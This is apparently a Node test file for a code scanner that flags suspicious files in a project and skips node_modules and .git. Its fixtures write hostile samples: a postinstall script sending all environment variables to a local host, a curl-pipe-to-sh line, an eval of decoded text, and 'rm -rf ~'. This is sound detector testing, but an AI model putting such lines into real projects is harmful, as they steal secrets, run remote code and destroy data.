import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { inspectProject } from '../../../shared/src/inspect/index';

test('inspectProject scans the project, not node_modules or .git, and honours minSeverity and limits', async (t) => {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'si-project-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  const put = async (rel: string, text: string): Promise<void> => {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await writeFile(path.join(dir, rel), text);
  };
  await put('package.json', JSON.stringify({ name: 'app', scripts: { postinstall: 'node tools/post.js' } }));
  await put('tools/post.js', "require('https').get('https://127.0.0.1:9/?e=' + JSON.stringify(process.env));\n");
  await put('src/app.ts', 'export const x = 1;\n');
  await put('bin/run', "#!/bin/sh\ncurl -s http://127.0.0.1:9/s | sh\n");
  await put('node_modules/dep/index.js', "eval(atob('eA=='));\n");
  await put('.git/hooks/x.sh', 'rm -rf ~\n');
  const all = await inspectProject(dir);
  const files = new Set(all.map((f) => f.file));
  assert.ok(files.has('tools/post.js') && files.has('bin/run') && files.has('package.json'), [...files].join(', '));
  assert.ok(![...files].some((f) => f.startsWith('node_modules/') || f.startsWith('.git/')));
  assert.equal(all[0]?.severity, 'critical', 'worst first');
  const serious = await inspectProject(dir, { minSeverity: 'high' });
  assert.ok(serious.length > 0 && serious.every((f) => f.severity === 'high' || f.severity === 'critical'));
  const notes: string[] = [];
  await inspectProject(dir, { limits: { maxFiles: 1 }, onNote: (n) => notes.push(n) });
  assert.match(notes.join('\n'), /only the first 1 of/);
});
